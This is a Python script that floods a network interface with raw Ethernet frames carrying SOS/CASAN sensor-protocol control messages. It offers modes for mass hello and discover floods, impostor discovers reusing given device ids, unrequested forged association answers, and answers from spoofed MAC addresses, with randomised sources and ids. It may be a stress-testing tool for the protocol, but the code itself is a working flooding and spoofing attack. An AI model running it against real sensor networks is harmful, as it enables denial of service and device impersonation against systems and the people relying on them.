#!/usr/bin/python3
"""sensor_flood.py - control messages of SOS/CASAN in raw frames, as fast as the kernel takes them (docs/protocols/sos.md,
sections 3.1 and 5), written octet by octet.

    sensor_flood.py IFACE TO-MAC KIND SECONDS [RATE [WHOSE]]

hello, discover: of another master; of a slave with an id of nine random digits. impostor: Discovers with the ids of WHOSE,
"1,2,3". answer: AssocAnswers to requests that nobody made. Each frame has a random source address and a random number.
stolen: the same answers, but from the addresses WHOSE, "MAC,MAC". Prints one line of JSON: {"sent": frames}.
"""
import json
import os
import struct
import sys

from frame_flood import BATCH, Batch, flood, random_sources

DIGITS = bytes(48 + i % 10 for i in range(256))
HEAD = 16  # octets in front of a message: addresses, EtherType, length


def option(delta, value):
    n = len(value)
    return bytes([delta << 4 | min(n, 13)]) + (bytes([n - 13]) if n >= 13 else b"") + value


def control(i, *queries):
    return (b"\x50\x02\0\0" + option(11, b".well-known") + option(0, (b"casan", b"sos")[i % 2]) +
            option(4, queries[0]) + b"".join(option(0, q) for q in queries[1:]))


def message(kind, i, whose):
    if kind == "hello":
        return control(i, b"hello=%d" % (1 + i % 999))
    if kind == "discover":
        return control(i, b"slave=1" + b"0" * 8, b"mtu=1518")
    if kind == "impostor":
        return control(i, b"slave=" + whose[i % len(whose)].encode(), b"mtu=1518")
    return b"\x60\x45\0\0\xc0\xff" + b'<t1>;title="forged";rt="lie",<led>'


def vary(kind):
    def change(batch):
        if kind != "stolen":
            random_sources(batch)
        numbers = os.urandom(2 * BATCH)
        for i, at in enumerate(batch.starts):
            batch.memory[at + HEAD + 2:at + HEAD + 4] = numbers[2 * i:2 * i + 2]
        if kind != "discover":
            return
        ids = os.urandom(8 * BATCH).translate(DIGITS)
        for i, at in enumerate(batch.starts):
            at = batch.memory.index(b"slave=1", at) + 7
            batch.memory[at:at + 8] = ids[8 * i:8 * i + 8]
    return change


def frame(to, kind, i, whose):
    content = message(kind, i, whose)
    source = bytes.fromhex(whose[i % len(whose)].replace(":", "")) if kind == "stolen" else bytes(6)
    return to + source + struct.pack(">HH", 0x88b5, len(content) + 2) + content


def main():
    ifname, to, kind, seconds = sys.argv[1:5]
    rate, whose = float((sys.argv[5:] or ["0"])[0]), (sys.argv[6:] or [""])[0].split(",")
    to = bytes.fromhex(to.replace(":", ""))
    batches = [Batch([frame(to, kind, i, whose) for i in range(BATCH)]) for _ in range(8)]
    print(json.dumps({"sent": flood(ifname, batches, float(seconds), rate, vary(kind))}))


main()
